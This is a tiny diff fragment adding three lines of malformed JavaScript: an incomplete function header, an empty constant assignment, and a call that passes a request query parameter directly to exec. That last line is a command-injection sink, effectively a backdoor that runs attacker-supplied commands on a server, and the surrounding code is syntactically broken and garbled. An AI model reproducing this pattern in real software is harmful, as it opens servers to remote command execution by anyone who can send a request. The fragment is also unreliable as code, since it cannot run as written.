@@ -1,0 +1,3 @@
+function (
+  const x = ;
+exec(req.query.x)
